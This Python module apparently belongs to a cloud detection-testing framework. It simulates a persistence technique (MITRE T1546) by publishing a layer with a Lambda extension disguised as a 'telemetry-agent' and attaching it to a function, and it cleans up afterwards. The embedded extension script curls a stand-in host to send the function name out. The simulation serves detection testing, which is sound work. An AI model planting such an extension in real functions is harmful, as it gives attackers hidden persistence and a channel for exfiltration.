"""Attach a layer carrying a Lambda extension to a function: the extension runs beside the
function's code in every execution environment and sees every event it processes."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique
from cloudsoc.simulate.techniques.persistence._lambda import create_function, delete_function, zipped

# An external extension: Lambda starts every executable under /opt/extensions with the function.
EXTENSION = '#!/bin/bash\ncurl -s https://webhook.example.net/register -d "$AWS_LAMBDA_FUNCTION_NAME" &\nexec sleep infinity\n'


@technique
class LambdaLayerExtension(Technique):
    title = "Add a malicious Lambda extension"
    attack = ("T1546",)
    expects = ("lambda_function_layer_added",)
    description = "Adds a layer that holds a Lambda extension to an existing function's configuration."

    def warmup(self, ctx: Ctx) -> Json:
        name = f"image-resizer-{ctx.run_id}"
        create_function(ctx, name)
        layer = client("lambda", session=ctx.admin()).publish_layer_version(
            LayerName=f"telemetry-agent-{ctx.run_id}", Content={"ZipFile": zipped({"extensions/telemetry-agent": EXTENSION})},
            CompatibleRuntimes=["python3.12"],
        )  # fmt: skip
        return {"function": name, "layer": layer["LayerArn"], "layer_version": layer["LayerVersionArn"],
                "version": layer["Version"]}  # fmt: skip

    def detonate(self, ctx: Ctx, state: Json) -> None:
        client("lambda", session=ctx.attacker()).update_function_configuration(
            FunctionName=state["function"], Layers=[state["layer_version"]]
        )

    def revert(self, ctx: Ctx, state: Json) -> None:
        delete_function(ctx, state["function"])
        # Lambda answers a deleted layer version with success, so this is idempotent as it stands.
        lam = client("lambda", session=ctx.admin())
        lam.delete_layer_version(LayerName=state["layer"], VersionNumber=state["version"])
